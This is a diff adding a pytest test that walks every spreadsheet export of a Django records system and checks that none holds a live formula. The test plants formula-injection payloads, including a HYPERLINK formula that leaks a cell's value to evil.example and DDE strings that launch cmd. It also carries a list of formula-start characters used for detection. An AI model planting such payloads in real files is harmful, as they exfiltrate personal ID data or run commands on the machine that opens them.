@@ -1,0 +1,113 @@
+"""No workbook the project produces holds a live formula (issue 15, finding 5: formula injection).
+
+Text a user or an administrator typed (a category, a station's or a person's name, an address) ends
+up in cells; a cell whose value is `=HYPERLINK(…)` runs when the file is opened, next to full ID
+numbers in the full export. The walk below plants such text in every kind of record a workbook
+shows, fetches every workbook (each .xlsx route of the URL conf, and the two commands that write
+one) and opens each sheet, hidden ones included.
+"""
+
+import io
+from datetime import date
+
+import pytest
+from django.core.management import call_command
+from django.urls import reverse
+from openpyxl import load_workbook
+
+from rongjia.core.exports import safe_cell
+from rongjia.core.models import Region
+from rongjia.people.models import Category
+from tests.factories import STREET_CODE, VILLAGE_CODE, person_at, unit_at
+from tests.security.probes import routes
+
+# What a spreadsheet runs as a formula (OWASP "CSV injection"); a cell beginning with "'" is neutralised.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+POISON = '=HYPERLINK("http://evil.example/?"&B2,"点击查看")'
+
+
+def formula_cells(content: bytes) -> list[str]:
+    """Every cell of every sheet that a spreadsheet would run: a formula cell, or text beginning like one."""
+    workbook = load_workbook(io.BytesIO(content))
+    found = []
+    for sheet in workbook.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                text = isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS)
+                if cell.data_type == "f" or text:
+                    found.append(f"{sheet.title}!{cell.coordinate}: {cell.value!r}")
+    return found
+
+
+@pytest.fixture
+def planted(cast):
+    """Formula text in reference data, a station, a region and a dossier, as legacy data could hold it
+    (written past the services, which now refuse such names)."""
+    Category.objects.create(name=POISON, position=99)
+    person = person_at(cast.county_director, name="王五", categories=(POISON,))
+    person.name, person.address_detail = "+cmd|' /C calc'!A0", "-1+1号"
+    person.save()  # audited: the audit log's export shows these values too
+    unit = unit_at(VILLAGE_CODE)
+    unit.name = "@SUM(1+1)*cmd|' /C calc'!A0"
+    unit.save()
+    Region.objects.filter(code=STREET_CODE).update(name="=1+1")
+    return person
+
+
+def _workbooks(cast, client_for) -> dict[str, bytes]:
+    director, today = client_for(cast.county_director), date.today().isoformat()
+    return {
+        "audit:export": client_for(cast.auditor).get(reverse("audit:export")),
+        "insights:dashboard_export": director.get(reverse("insights:dashboard_export")),
+        "network:network_stats_export": director.get(reverse("network:network_stats_export") + "?region=320115"),
+        "network:station_export": director.get(reverse("network:station_export")),
+        "people:as_of_export": director.get(reverse("people:as_of_export") + f"?day={today}"),
+        "people:export_full": director.post(reverse("people:export_full"), {"reason": "核对", "confirm": "on"}),
+        "people:import_template": client_for(cast.village_worker).get(reverse("people:import_template")),
+        "people:person_export": director.get(reverse("people:person_export")),
+    }
+
+
+def test_every_workbook_holds_no_formula(planted, cast, client_for, tmp_path):
+    responses = _workbooks(cast, client_for)
+    produced = {name for name, kwargs in routes() if not kwargs and reverse(name).endswith(".xlsx")}
+    assert produced == set(responses), "a workbook route this walk does not fetch: add it above"
+    books = {}
+    for name, response in responses.items():
+        assert response.status_code == 200, name
+        books[name] = response.content
+    call_command("export_people", str(tmp_path / "masked.xlsx"), "--as", "county_director", stdout=io.StringIO())
+    call_command("export_people", str(tmp_path / "full.xlsx"), "--as", "county_director", "--full",
+                 stdout=io.StringIO())
+    call_command("import_people", "--template", str(tmp_path / "template.xlsx"), stdout=io.StringIO())
+    for file in ("masked", "full", "template"):
+        books[f"command {file}"] = (tmp_path / f"{file}.xlsx").read_bytes()
+    found = {name: cells for name, content in books.items() if (cells := formula_cells(content))}
+    assert not found, found
+    # the walk read the planted text, neutralised, where it belongs
+    full = load_workbook(io.BytesIO(books["people:export_full"])).active
+    assert "'" + POISON in [cell.value for row in full.iter_rows() for cell in row]
+    lists = load_workbook(io.BytesIO(books["people:import_template"]))["代码表"]
+    assert "'" + POISON in [cell.value for cell in lists["D"]]
+
+
+def test_the_walk_sees_a_formula_when_there_is_one():
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    workbook.active.append(["=1+1", "'=1+1", "ok"])
+    hidden = workbook.create_sheet("hidden")
+    hidden.sheet_state = "hidden"
+    hidden.append(["@SUM(A1)"])
+    buffer = io.BytesIO()
+    workbook.save(buffer)
+    assert len(formula_cells(buffer.getvalue())) == 2
+
+
+@pytest.mark.parametrize("value, written", [
+    ("=1+1", "'=1+1"), ("+86 139", "'+86 139"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
+    ("\r=1", "'\r=1"), ("古泉村", "古泉村"), ("'=1", "'=1"), (12, 12), (-3.5, -3.5), (None, None),
+])
+def test_safe_cell_neutralises_formula_text_only(value, written):
+    assert safe_cell(value) == written
+
